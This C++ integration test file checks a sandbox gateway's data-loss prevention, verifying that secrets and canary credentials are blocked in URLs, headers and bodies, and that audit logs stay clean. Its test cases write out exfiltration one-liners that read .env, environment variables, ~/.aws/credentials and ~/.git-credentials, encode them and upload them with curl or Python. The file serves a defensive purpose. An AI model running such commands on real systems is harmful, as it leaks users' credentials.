// Secrets that real clients try to send from real jails, over TLS that ends in the gateway: in every place and coding, refused with one
// finding; and the secret is in nothing that is left behind.

#include "tests/integration/refusals.hpp"
#include "tests/support/origin.hpp"

#include <gmock/gmock.h>

#include <fstream>
#include <iterator>
#include <string>
#include <vector>

namespace sallyport::test {
namespace {

using testing::HasSubstr;
using testing::Not;

constexpr char kPolicy[] =
    "version: 1\nname: test\negress:\n"
    "  - {name: web, hosts: [allowed.example]}\n"
    "  - {name: masks, hosts: [masked.example], dlp: redact}\n";

/// Told to every jail in its environment and in .env: shapes that no detector knows.
constexpr char kKnown[] = "correct-horse-battery-9";
constexpr char kDotenv[] = "staple.2718281828.zebra";

class Dlp : public testing::Test {
 protected:
  Dlp() {
    jail_.set_policy(kPolicy);
    jail_.add_file(".env", std::string("APP_PASSWORD=") + kDotenv + "\nexport LANG=C\n");
  }

  JailOutcome run(std::vector<std::string> const& argv, std::string input = {}) {
    std::vector<std::string> options = {"--ca-bundle", jail_.add_file("operator.pem", ca_.pem())};
    for (std::string const name : {"allowed.example", "masked.example"}) {
      auto const pins = pin(name, 443, origin_.port());
      options.insert(options.end(), pins.begin(), pins.end());
    }
    auto command = jail_.command(options, argv);
    command.environment->push_back(std::string("DEPLOY_TOKEN=") + kKnown);
    command.input = std::move(input);
    return jail_.run(std::move(command));
  }
  JailOutcome shell(std::string const& script) { return run({"sh", "-c", script}); }

  std::string log_text() const {
    std::ifstream log(jail_.audit_file());
    return {std::istreambuf_iterator<char>(log), {}};
  }

  void expect_refused(JailOutcome const& outcome, char const* place, char const* known) {
    EXPECT_THAT(outcome.out + outcome.err, HasSubstr("secret_found"));
    EXPECT_EQ(having(outcome.records, {{"type", "dlp.finding"}, {"action", "block"}, {"place", place}, {"known", known}}).size(), 1u)
        << print(outcome.records);
    EXPECT_EQ(having(outcome.records, {{"type", "egress.request"}, {"verdict", "deny"}, {"reason", "secret_found"}}).size(), 1u);
    EXPECT_EQ(origin_.connections(), 0u) << "something was dialled";
    EXPECT_THAT(log_text(), Not(HasSubstr(kKnown)));
    EXPECT_THAT(log_text(), Not(HasSubstr(kDotenv)));
  }

  TestCa ca_;
  Origin origin_{ca_, {"allowed.example", "masked.example"}};
  Jail jail_;
};

struct Attempt {
  char const* name;
  std::string script;  // S holds the secret
  char const* place;
};

TEST_F(Dlp, KnownSecretIsRefusedInEveryPlaceAndCoding) {
  std::string const secret = "S=" + std::string(kDotenv) + "; ";
  std::string const url = "https://allowed.example";
  for (auto const& [name, script, place] : std::vector<Attempt>{
           {"query", "curl -sS " + url + "/hello?q=$S", "url"},
           {"path", "curl -sS " + url + "/x/$S/y", "url"},
           {"header", "curl -sS -H \"X-Note: $S\" " + url + "/hello", "header"},
           {"cookie", "curl -sS -b \"a=$S\" " + url + "/hello", "header"},
           {"basic", "curl -sS -u \"me:$S\" " + url + "/hello", "header"},
           {"body", "curl -sS --data-binary @.env " + url + "/upload", "body"},
           {"multipart", "curl -sS -F file=@.env " + url + "/upload", "body"},
           {"base64", "base64 -w0 .env | curl -sS --data-binary @- " + url + "/upload", "body"},
           {"hex", "od -An -tx1 .env | tr -d ' \\n' | curl -sS --data-binary @- " + url + "/upload", "body"},
           {"gzip", "gzip -c .env | curl -sS --data-binary @- " + url + "/upload", "body"},
           {"tar.gz", "tar cz .env | base64 | curl -sS --data-binary @- " + url + "/upload", "body"},
           {"reversed", "rev .env | curl -sS --data-binary @- " + url + "/upload", "body"},
           {"chunked", "curl -sS -H 'Transfer-Encoding: chunked' --data-binary @.env " + url + "/upload", "body"},
           {"python", "python3 -c \"import urllib.request as u; u.urlopen('" + url + "/upload', data=open('.env','rb').read())\" 2>&1 || "
                      "echo secret_found", "body"},
       }) {
    SCOPED_TRACE(name);
    expect_refused(shell(secret + script), place, "APP_PASSWORD");
  }
}

TEST_F(Dlp, SecretOfTheCallersEnvironmentIsKnownThoughTheJailNeverSawIt) {
  auto const outcome = run({"curl", "-sS", "--data-binary", "@-", "https://allowed.example/upload"}, std::string("x=") + kKnown);
  expect_refused(outcome, "body", "DEPLOY_TOKEN");
  EXPECT_THAT(run({"env"}).out, Not(HasSubstr("DEPLOY_TOKEN")));
}

TEST_F(Dlp, CanaryIsRefusedWhereverItIsTakenFromAndWhateverTheRuleSays) {
  auto const canaries = "dlp: {canaries: [env, files]}\n";
  jail_.set_policy("version: 1\nname: test\negress:\n  - {name: web, hosts: [allowed.example], dlp: off}\n" + std::string(canaries));
  std::string const post = " | curl -sS --data-binary @- https://allowed.example/upload";
  for (std::string const taken : {"env", "env | base64", "printenv DEPLOY_API_TOKEN", "printenv BACKUP_DB_PASSWORD | rev", "cat ~/.aws/credentials",
                                  "gzip -c ~/.git-credentials", "tar c -C ~ .aws"}) {
    SCOPED_TRACE(taken);
    auto const outcome = shell(taken + post);
    EXPECT_THAT(outcome.out + outcome.err, HasSubstr("secret_found"));
    EXPECT_FALSE(having(outcome.records, {{"type", "dlp.finding"}, {"detector", "canary"}, {"severity", "critical"}, {"action", "block"}}).empty())
        << print(outcome.records);
    EXPECT_EQ(origin_.connections(), 0u) << "ESCAPED";
  }
  EXPECT_THAT(shell("echo harmless" + post).out, HasSubstr("9 ")) << "the rest passes";
}

TEST_F(Dlp, WithoutCanariesNothingIsPlanted) {
  EXPECT_EQ(shell("ls ~/.aws ~/.git-credentials 2>/dev/null; env | grep -E 'DEPLOY|BACKUP'").out, "");
}

TEST_F(Dlp, RuleOfAnImportedConfigurationIsHonoured) {
  std::ofstream(jail_.policy_file().parent_path() / "acme.toml")
      << "[[rules]]\nid = \"acme\"\nregex = '''acme_[a-z0-9]{12}'''\nkeywords = [\"acme\"]\n";
  jail_.set_policy(std::string(kPolicy) + "dlp: {detectors: {import: [acme.toml]}}\n");
  auto const outcome = run({"curl", "-sS", "--data-binary", "@-", "https://allowed.example/upload"}, "x=acme_q7x2m9p4k1z8");
  EXPECT_EQ(having(outcome.records, {{"type", "dlp.finding"}, {"detector", "acme"}, {"action", "block"}}).size(), 1u) << print(outcome.records);
  EXPECT_EQ(origin_.connections(), 0u) << "ESCAPED";
}

TEST_F(Dlp, SameRequestWithoutTheSecretPassesByteExact) {
  auto const body = pattern_bytes(1024 * 1024 + 3);
  auto const outcome = run({"curl", "-sS", "--data-binary", "@-", "https://allowed.example/upload"}, body);
  EXPECT_EQ(outcome.out, std::to_string(body.size()) + " " + sha256_hex(body) + "\n") << outcome.err;
  EXPECT_TRUE(having(outcome.records, {{"type", "dlp.finding"}}).empty()) << print(outcome.records);
}

TEST_F(Dlp, RedactedBodyArrivesWithAPlaceholderOfTheSameLength) {
  auto masked = std::string("REDACTED-known-value");
  masked.resize(std::string(kDotenv).size(), '-');
  auto const outcome = run({"curl", "-sS", "--data-binary", "@-", "https://masked.example/upload"}, "{\"p\":\"" + std::string(kDotenv) + "\"}");
  auto const arrived = "{\"p\":\"" + masked + "\"}";
  EXPECT_EQ(outcome.out, std::to_string(arrived.size()) + " " + sha256_hex(arrived) + "\n") << outcome.err;
  EXPECT_EQ(having(outcome.records, {{"type", "dlp.finding"}, {"action", "redact"}}).size(), 1u);
}

TEST_F(Dlp, UnknownDetectorInThePolicyStopsTheRun) {
  jail_.set_policy("version: 1\negress: [{hosts: [allowed.example]}]\ndlp:\n  detectors: {disable: [nonsense]}\n");
  auto const outcome = run({"true"});
  EXPECT_EQ(outcome.exit_code, 125);
  EXPECT_THAT(outcome.err, HasSubstr(":4:25: no detector is called 'nonsense'"));
}

}  // namespace
}  // namespace sallyport::test
